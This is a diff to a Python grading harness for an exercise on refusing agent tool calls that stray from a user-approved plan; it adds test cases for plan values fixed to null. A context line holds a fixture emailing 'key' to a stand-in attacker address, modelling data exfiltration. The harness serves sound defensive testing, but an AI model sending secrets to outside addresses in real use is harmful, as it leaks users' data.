@@ -436,6 +436,9 @@ PLAN_FIXED = [
     PlannedCall((_STEPS[0], _STEPS[1]), 1, "send_email", _args(to="backup@evil.example", body="key")),
     PlannedCall((_STEPS[0], _STEPS[1]), 2, "send_email", _args(to="carol@partner.example", body="Again.")),
     PlannedCall((_STEPS[0], _STEPS[1]), 0, "send_email", _args(to="carol@partner.example")),
+    # a value fixed to null: given as null it runs; left out, it is missing
+    PlannedCall((Step("send_email", {"cc": None}),), 0, "send_email", _args(cc=None, body="Hi.")),
+    PlannedCall((Step("send_email", {"cc": None}),), 0, "send_email", _args(body="Hi.")),
 ]
 
 
@@ -494,6 +497,7 @@ PLAN_SHAPES: dict[str, Callable[[PlannedCall], bool]] = {
         and p.name == p.plan[p.done].tool
         and any(k not in dict(p.arguments) for k in p.plan[p.done].fixed)
     ),
+    "a value fixed to null": lambda p: any(v is None for s in p.plan for v in s.fixed.values()),
     "1.0 for 1": lambda p: any(isinstance(v, float) for _, v in p.arguments),
     "1 for true": lambda p: any(v == 1 and not isinstance(v, bool) for k, v in p.arguments if k == "confirm"),
     "a plan already finished": lambda p: p.done >= len(p.plan) and bool(p.plan),
@@ -517,6 +521,7 @@ PLAN_SPACE: dict[str, Dimension[PlannedCall]] = {
             "kept": PLAN_SHAPES["the next step, as planned"],
             "changed": PLAN_SHAPES["a fixed value changed"],
             "missing": PLAN_SHAPES["a fixed value missing"],
+            "fixed to null": PLAN_SHAPES["a value fixed to null"],
         },
     ),
 }
@@ -548,10 +553,10 @@ def _smaller_planned(p: PlannedCall) -> Iterator[PlannedCall]:
 def check_plan_refusal(plan_refusal_function: Callable[..., Any]) -> Verdict:
     """Exercise 13.3: plan_refusal(plan, done, name, arguments) -> None to run the call, or why not
 
-    Runs 6 fixed calls, then 200 generated (plans of up to three steps, any number done, the next
-    step or another or a tool outside the plan, fixed values kept, changed, missing, 1.0 for 1 and
-    1 for true, values the user did not fix), beside the reference: only whether it runs is compared,
-    and a refusal must say why (an empty string says nothing, and reads as false where None is tested).
+    Runs 8 fixed calls (two with a value fixed to null), then 200 generated (plans of up to three
+    steps, any number done, the next step or another or a tool outside the plan, fixed values kept,
+    changed, missing, 1.0 for 1 and 1 for true, values the user did not fix), beside the reference:
+    only whether it runs is compared, and a refusal must say why (an empty string says nothing, and reads as false where None is tested).
     """
 
     def judge(p: PlannedCall) -> str | None:
